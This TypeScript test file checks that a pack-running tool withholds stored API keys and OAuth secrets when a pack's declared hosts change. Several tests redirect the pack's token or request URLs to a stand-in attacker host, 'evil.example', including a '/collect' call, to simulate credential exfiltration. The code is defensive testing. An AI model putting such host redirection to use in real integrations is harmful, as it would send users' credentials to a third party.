import { writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { AccountHosts } from "../../src/accounts/account.ts";
import { hostsBeyond } from "../../src/accounts/account-hosts.ts";
import { connectAccount } from "../../src/connect/connect-account.ts";
import { allowHosts, refreshAccount } from "../../src/connect/manage-accounts.ts";
import { runFormula } from "../../src/execute/run-target.ts";
import { startProvider } from "../../src/provider/provider.ts";
import { createRedactor } from "../../src/shared/redact.ts";
import { startTestServer } from "../execute/http-server.ts";
import { makeProject } from "../support/project.ts";

const KEY_PACK = `import { newPack } from "packsmith";
export const pack = newPack().addNetworkDomain("tasks.example").addNetworkDomain("evil.example").addNetworkDomain("eu.tasks.example");
pack.setUserAuthentication({ type: "HeaderBearerToken", networkDomain: "tasks.example" });
pack.addFormula({
  name: "Call", description: "Sends a request.", resultType: "string",
  parameters: [{ type: "string", name: "url", description: "Where." }],
  execute: async ([url], context) => (await context.fetcher.fetch({ method: "GET", url })).body,
});
`;

const OAUTH_PACK = `import { newPack } from "packsmith";
export const pack = newPack().addNetworkDomain("tasks.example");
pack.setUserAuthentication({
  type: "OAuth2", authorizationUrl: "https://login.tasks.example/authorize", tokenUrl: "https://login.tasks.example/token",
  useProofKeyForCodeExchange: true,
});
`;

/** An account with an API key, and one server behind both hosts. */
async function connectKey() {
  const project = makeProject({ "pack.ts": KEY_PACK });
  const api = await startTestServer(
    (_, response) => void response.writeHead(200, { "content-type": "text/plain" }).end("fine"),
  );
  const options = {
    file: "pack.ts",
    cwd: project.path,
    home: join(project.path, "home"),
    redactor: createRedactor(),
  };
  const routes = ["tasks", "evil", "eu.tasks"].map(
    (name) => `https://${name}.example=${api.origin}`,
  );
  await connectAccount({ ...options, secrets: { token: "planted-key-1" } });
  return {
    options,
    project,
    api,
    edit: (from: string, to: string) =>
      writeFileSync(join(project.path, "pack.ts"), KEY_PACK.replace(from, to)),
    call: (url: string, more = {}) =>
      runFormula({ ...options, ...more, routes, formula: "Call", args: [url] }),
    async [Symbol.asyncDispose]() {
      await api[Symbol.asyncDispose]();
      project[Symbol.dispose]();
    },
  };
}

describe("an account stays with the hosts that it was connected for", () => {
  it("a changed networkDomain gets no credentials, until they are allowed", async () => {
    await using key = await connectKey();
    key.edit('networkDomain: "tasks.example"', 'networkDomain: "evil.example"');
    const refused = await key.call("https://evil.example/collect");
    expect(refused).toMatchObject({
      ok: false,
      failure: { cause: { code: "ACCOUNT_HOSTS_CHANGED", details: { hosts: ["evil.example"] } } },
    });
    expect(key.api.requests).toEqual([]);
    expect(await allowHosts(key.options)).toEqual({
      hosts: ["evil.example", "eu.tasks.example", "tasks.example"],
      added: ["evil.example"],
    });
    expect(await key.call("https://evil.example/collect")).toMatchObject({
      ok: true,
      result: "fine",
    });
    // Only the hosts of today are allowed now.
    key.edit("", "");
    expect(await key.call("https://tasks.example/")).toMatchObject({
      ok: false,
      failure: { cause: { code: "ACCOUNT_HOSTS_CHANGED" } },
    });
  });

  it("a definition that asks for less, or for a subdomain, works as before", async () => {
    await using key = await connectKey();
    key.edit('networkDomain: "tasks.example"', 'networkDomain: "eu.tasks.example"');
    expect(await key.call("https://eu.tasks.example/")).toMatchObject({ ok: true });
  });

  it("connecting again allows the new hosts", async () => {
    await using key = await connectKey();
    key.edit('networkDomain: "tasks.example"', 'networkDomain: "evil.example"');
    await connectAccount({ ...key.options, secrets: { token: "planted-key-2" } });
    expect(await key.call("https://evil.example/")).toMatchObject({ ok: true });
  });

  it.each([
    [
      "tokenUrl",
      'tokenUrl: "https://login.tasks.example/token"',
      'tokenUrl: "https://evil.example/token"',
    ],
    ["endpointUrl", "useProof", 'endpointUrl: "https://evil.example", useProof'],
    ["refreshUrl", "useProof", 'refreshUrl: "https://evil.example/token", useProof'],
    [
      "the same host at another port",
      'tokenUrl: "https://login.tasks.example/token"',
      'tokenUrl: "https://login.tasks.example:8443/token"',
    ],
  ])("a changed %s gets neither the refresh token nor the client secret", async (_, from, to) => {
    using project = makeProject({ "pack.ts": OAUTH_PACK });
    await using provider = await startProvider();
    await using evil = await startTestServer((__, response) => void response.writeHead(500).end());
    const routes = [
      `https://login.tasks.example=${provider.issuer}`,
      `https://evil.example=${evil.origin}`,
    ];
    const options = {
      file: "pack.ts",
      cwd: project.path,
      home: join(project.path, "home"),
      redactor: createRedactor(),
      routes,
    };
    const { clientId, clientSecret } = provider;
    await connectAccount({ ...options, client: { clientId, clientSecret }, browser: "headless" });
    project.write("pack.ts", OAUTH_PACK.replace(from, to));
    const before = provider.requests.length;
    await expect(refreshAccount(options)).rejects.toMatchObject({ code: "ACCOUNT_HOSTS_CHANGED" });
    expect([evil.requests.length, provider.requests.length - before]).toEqual([0, 0]);
    project.write("pack.ts", OAUTH_PACK);
    expect(await refreshAccount(options)).toMatchObject({ status: "connected" });
  });
});

it("a Pack that declares another network domain sends nothing until the user allows it", async () => {
  await using test = await connectKey();
  const own = "https://tasks.example/";
  expect(await test.call(own)).toMatchObject({ ok: true });
  test.edit('.addNetworkDomain("evil.example")', '.addNetworkDomain("other.example")');
  const sent = test.api.requests.length;
  const refused = await test.call(own);
  expect(refused).toMatchObject({
    ok: false,
    failure: { cause: { code: "ACCOUNT_HOSTS_CHANGED" } },
  });
  expect(test.api.requests.length).toBe(sent);
  expect(await allowHosts(test.options)).toMatchObject({ added: ["other.example"] });
  expect(await test.call(own)).toMatchObject({ ok: true });
  test.edit('.addNetworkDomain("evil.example")', "");
  expect(await test.call(own)).toMatchObject({ ok: true });
});

it("hostsBeyond is empty exactly when each host is one of the sealed ones or a subdomain of one", () => {
  const name = fc.constantFrom("a.example", "b.a.example", "ba.example", "example.com");
  const hosts: fc.Arbitrary<AccountHosts> = fc.record({
    credentialDomains: fc.array(name, { maxLength: 3 }),
    tokenOrigins: fc.array(
      name.map((host) => `https://${host}`),
      { maxLength: 3 },
    ),
    networkDomains: fc.option(fc.array(name, { maxLength: 3 }), { nil: undefined }),
  });
  fc.assert(
    fc.property(hosts, hosts, (wanted, sealed) => {
      const { credentialDomains, networkDomains = [] } = sealed;
      const isIn = (domains: readonly string[]) => (host: string) =>
        domains.some((domain) => `.${host}`.endsWith(`.${domain}`));
      const fits =
        wanted.credentialDomains.every(isIn(credentialDomains)) &&
        (wanted.networkDomains ?? []).every(isIn([...credentialDomains, ...networkDomains])) &&
        wanted.tokenOrigins.every((origin) => sealed.tokenOrigins.includes(origin));
      expect(hostsBeyond(wanted, sealed).length === 0).toBe(fits);
    }),
  );
});
